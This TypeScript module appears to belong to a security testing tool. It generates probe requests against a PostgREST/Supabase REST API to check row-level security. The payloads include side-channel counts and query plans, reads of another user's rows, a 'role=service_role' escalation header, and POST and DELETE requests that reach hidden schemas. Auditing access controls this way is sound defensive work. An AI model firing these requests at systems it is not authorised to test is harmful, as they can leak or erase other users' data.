import type { Attack } from './attack.ts'
import type { Catalogue, Relation, Row } from './catalogue.ts'

const enc = encodeURIComponent
const get = (what: string, path: string, headers: Attack['headers'] = [], method = 'GET'): Attack => ({
  what,
  method,
  path,
  headers,
  body: null,
})

/** A value as a filter takes it. */
export function literal(value: unknown): string {
  return enc(typeof value === 'object' && value !== null ? JSON.stringify(value) : String(value))
}

/** Ways to be told more than rows: plans, counts, other shapes. Each must depend on the reader's own rows alone. */
const SIDE_CHANNELS: readonly (readonly [string, string, string])[] = [
  ['an exact count', 'prefer', 'count=exact'],
  ['a planned count', 'prefer', 'count=planned'],
  ['an estimated count', 'prefer', 'count=estimated'],
  ['a plan', 'accept', 'application/vnd.pgrst.plan+json; options=analyze|verbose|settings|buffers'],
  ['a plan as text', 'accept', 'application/vnd.pgrst.plan+text; for="application/json"; options=analyze'],
  ['CSV', 'accept', 'text/csv'],
  ['one object', 'accept', 'application/vnd.pgrst.object+json'],
  ['a rolled back transaction', 'prefer', 'tx=rollback'],
  ['another role', 'prefer', 'params=single-object, role=service_role'],
  ['a range', 'range', '0-0'],
]

/** Everything that a relation can be asked without writing. `rows`: the victim's rows in it; `own`: the column that says whose a row is. */
export function readsOf(relation: Relation, { relations }: Catalogue, rows: readonly Row[]): Attack[] {
  const base = `/rest/v1/${enc(relation.name)}`
  const names = relation.columns.map((one) => one.name)
  const attacks = [
    get('all of it', base),
    get('all of it, heads only', base, [['prefer', 'count=exact']], 'HEAD'),
    get('rows counted', `${base}?select=count()`),
    get('no columns', `${base}?select=`),
    get('system columns', `${base}?select=tableoid,xmin,ctid,*`),
    get('one row, far away', `${base}?limit=1&offset=1000000`, [['prefer', 'count=exact']]),
    ...SIDE_CHANNELS.map(([what, name, value]) => get(what, `${base}?select=*`, [[name, value]])),
    ...names.flatMap((name) => [
      get(`ordered by ${name}`, `${base}?order=${enc(name)}.desc.nullslast&limit=1`),
      get(`where ${name} is something`, `${base}?${enc(name)}=not.is.null`),
    ]),
  ]
  for (const row of rows.slice(0, 1)) {
    const told = Object.entries(row).filter(([, value]) => value !== null)
    for (const [name, value] of told) {
      const filter = `${enc(name)}=eq.${literal(value)}`
      attacks.push(get(`where ${name} is theirs`, `${base}?${filter}`, [['prefer', 'count=exact']]))
      attacks.push(get(`where ${name} is theirs, or`, `${base}?or=(${enc(name)}.eq.${literal(value)},${enc(name)}.is.null)`))
    }
    const [name, value] = told.find(([, one]) => String(one).length === 36) ?? told[0] ?? ['id', '']
    const [id, theirs] = [enc(name), literal(value)]
    for (const filter of [`${id}=in.(${theirs})`, `${id}=neq.${theirs}`, `${id}=not.eq.${theirs}`, `not.and=(${id}.neq.${theirs})`]) {
      attacks.push(get(`filter ${filter.split('=')[1]?.split('.')[0]}`, `${base}?${filter}`, [['prefer', 'count=exact']]))
    }
    attacks.push(get('text like theirs', `${base}?${id}::text=like.${theirs.slice(0, 8)}*`))
  }
  for (const other of relations) {
    const embed = enc(other.name)
    attacks.push(get(`${other.name} embedded`, `${base}?select=*,${embed}(*)`))
    if (!relation.near.includes(other.name)) continue
    attacks.push(get(`${other.name} embedded, inner`, `${base}?select=*,${embed}!inner(*)`, [['prefer', 'count=exact']]))
    attacks.push(get(`${other.name} spread`, `${base}?select=*,...${embed}(*)`))
    attacks.push(get(`${other.name} counted`, `${base}?select=*,${embed}(count)`))
    attacks.push(get(`${other.name} and back`, `${base}?select=*,${embed}(*,${enc(relation.name)}(*))`))
  }
  return attacks
}

/** Asking for what the API does not open: by profile, by a qualified name, by a path that climbs. */
export function hiddenReads({ hidden, hiddenSchemas }: Catalogue): Attack[] {
  const perSchema = new Map<string, number>()
  const some = hidden.filter(({ schema }) => {
    const nth = (perSchema.get(schema) ?? 0) + 1
    perSchema.set(schema, nth)
    return !SYSTEM.has(schema) || nth <= 20
  })
  return [
    ...some.flatMap(({ schema, name }) => [
      get(`${schema}.${name} by profile`, `/rest/v1/${enc(name)}`, [['accept-profile', schema]]),
      get(`${schema}.${name} by its whole name`, `/rest/v1/${enc(`${schema}.${name}`)}`),
      get(`${schema}.${name} without its schema`, `/rest/v1/${enc(name)}`),
      {
        ...get(`${schema}.${name} written by profile`, `/rest/v1/${enc(name)}`, [['content-profile', schema], ...JSON_BODY], 'POST'),
        body: '{}',
      },
      { ...get(`${schema}.${name} erased by profile`, `/rest/v1/${enc(name)}?limit=1`, [['content-profile', schema]], 'DELETE') },
    ]),
    ...hiddenSchemas.flatMap((schema) => [
      get(`the functions of ${schema}`, '/rest/v1/rpc/version', [['accept-profile', schema]]),
      { ...get(`the functions of ${schema}`, '/rest/v1/rpc/my_org_ids', [['content-profile', schema], ...JSON_BODY], 'POST'), body: '{}' },
      get(`what ${schema} holds`, '/rest/v1/', [['accept-profile', schema]]),
    ]),
  ]
}

const SYSTEM: ReadonlySet<string> = new Set(['pg_catalog', 'information_schema'])
export const JSON_BODY: Attack['headers'] = [['content-type', 'application/json']]
